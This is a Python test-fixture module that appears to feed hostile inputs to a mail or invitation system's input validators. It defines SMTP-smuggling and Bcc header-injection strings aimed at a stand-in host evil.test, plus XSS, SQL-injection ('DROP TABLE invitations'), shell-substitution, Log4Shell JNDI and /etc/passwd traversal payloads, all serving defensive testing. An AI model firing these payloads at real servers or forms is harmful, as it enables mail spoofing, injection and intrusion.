"""What no field may be harmed by: a public corpus, and our own additions to it."""
import json
import unicodedata

from harness import ROOT

CORPUS = json.loads((ROOT.parent / "shared/corpora/naughty/blns.json").read_text(encoding="utf-8"))

SMUGGLED = "MAIL FROM:<smuggled@evil.test>\r\nRCPT TO:<smuggled@evil.test>\r\nDATA\r\nSubject: smuggled\r\n\r\nx"
TRICKS = [
    # Line ends of every kind, and what follows them in a header or in a conversation.
    "a\rb", "a\nb", "a\r\nb", "a\r\nBcc: smuggled@evil.test", "a\nBcc: smuggled@evil.test", "a\rBcc: smuggled@evil.test",
    "a\r\n\r\n<b>body</b>", "a\u2028Bcc: smuggled@evil.test", "a\u2029b", "a\u0085Bcc: smuggled@evil.test", "a\x0bb",
    "a\x0cb", "\r\n", "\n", "\r", " ", "\t", "a\r\n b", "a\r\n\tb", "a%0d%0aBcc: smuggled@evil.test", "a\\r\\nBcc: x",
    # The end of a mail, as servers that are lenient with it read it (SMTP smuggling).
    f"a\r\n.\r\n{SMUGGLED}", f"a\n.\n{SMUGGLED}", f"a\n.\r\n{SMUGGLED}", f"a\r\n.\n{SMUGGLED}", f"a\r.\r{SMUGGLED}",
    f"a\r\n.\r{SMUGGLED}", f"a\r\n\x00.\r\n{SMUGGLED}", ".", "..", ".\r\n", "\r\n.\r\n", "\n.\n", ".a\n.b\n..c\n.",
    # Nothing, and what ends texts early.
    "\x00", "a\x00b", "\x1b[2J\x1b]0;owned\x07", "\x7f", "\x80\x9b31m", "\ufffe", "\uffff",
    # What shows nothing or turns the text around.
    "\u202eexe.txt", "\u2066a\u2069", "a\u200bb", "a\u200db", "\ufeffa", "\u00ada", "a\u2060b", "\u061ca",
    "\u3164", "\u115f", "\U000e0041\U000e0042", "\u180e", "a\u034fb",
    # Towers of marks, and marks that join what they follow: a quote, a bracket, a slash, a dot.
    "z" + "\u0300" * 60, "\u0300" * 10, "\"\u0301onerror=alert(1)", "<\u0338script>", "a/\u0301b", "a.\u0301b@x.example",
    "'\u0301><img src=x>", "&\u0301lt;", "{{\u0301gallery}}", "\u20dd",
    # Encoded words, address syntax and templates, in places where they are only text.
    "=?utf-8?B?QmNjOiBzbXVnZ2xlZEBldmlsLnRlc3Q=?=", "=?utf-8?Q?=0D=0ABcc:_smuggled@evil.test?=",
    "\"ann\" <smuggled@evil.test>", "ann@example.org, smuggled@evil.test", "ann@example.org>, <smuggled@evil.test",
    "ann@example.org\r\nRCPT TO:<smuggled@evil.test>", "<smuggled@evil.test>", "@evil.test:ann@example.org",
    "ann%evil.test@example.org", "ann@[127.0.0.1]", "\"ann\"@example.org", "ann@example.org (x)", "ann@exam\u200bple.org",
    "\u00e4nn@ex\u00e4mple.org", "ann@xn--mnchen-3ya.example", "ann@-x.org", "ann@x..org", ".a@x.org", "a.@x.org",
    "postmaster", "group: a@x.org, b@x.org;", "{{gallery}}", "{{{note}}}", "{{#note}}x{{/note}}", "{{> layout}}",
    "{{=<% %>=}}", "{{% CONTENT_TYPE:HTML}}",
    # Markup of every place, and what links by itself.
    "\"><svg/onload=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "]]><!--", "--><script>alert(1)</script>", "</blockquote><form action=//evil.test>", "javascript:alert(1)",
    "<a href=//evil.test>here</a>", "https://evil.test/c/x", "www.evil.test", "evil.com", "evil\u3002com",
    "smuggled@evil.com", "//evil.com", "mailto:smuggled@evil.com", "tel:+15551234", "http:\\\\evil.com",
    "http://127.0.0.1/c/AQEBawqVhQGh_UuNonAhnE08LzfR8gYAAAAEAAHHYXmJwY_JeoOvNHGI9QZq",
    # Paths, other interpreters, and too much of everything.
    "../../etc/passwd", "..", "a//b", "/a", "a/", "%2e%2e%2f", "%00", "%", "%zz", "a b", "a+b", "a;b", "a?b", "a#b", "a&b=c",
    "' OR 1=1 --", "'; DROP TABLE invitations; --", "$(id)", "`id`", "%s%s%n", "${jndi:ldap://evil.test/a}",
    "a" * 128, "a" * 129, "a" * 500, "a" * 501, "\u00e9" * 256, "e\u0301" * 128, "\U0001f600" * 250, "a" * 5000,
    "a." * 60 + "a", "a@" * 60 + "b.com",
    # Half of a surrogate pair: JSON can spell it, Unicode has no such character.
    "\ud800", "a\udfffb", "\udc00\ud800",
    # The case of letters.
    "\u0130stanbul", "\u0131", "stra\u00dfe", "STRASSE", "\u03c3\u03c2", "\u1e9e", "\ufb01", "K\u212a", "\u01c5",
]
EVERYTHING = list(dict.fromkeys([*CORPUS, *TRICKS]))


def has_surrogates(text: str) -> bool:
    return any(unicodedata.category(c) == "Cs" for c in text)


def is_plain_text(text: str) -> bool:
    """Whether a note or a reason can hold it, as the contract has it."""
    return len(text) <= 500 and not any(
        unicodedata.category(c) == "Cc" and c not in "\n\r\t\x85" for c in text)


def may_be_name(text: str, punctuation: str) -> bool:
    """Whether nothing in it speaks against a name; what says yes to more than this lets something through."""
    composed = unicodedata.normalize("NFC", text)
    return 0 < len(composed) <= 128 and all(
        c.isascii() and (c.isalnum() or c in punctuation) or not c.isascii()
        and unicodedata.category(c) in ("Lu", "Ll", "Lt", "Lm", "Lo", "Mn", "Mc", "Nd") for c in composed)
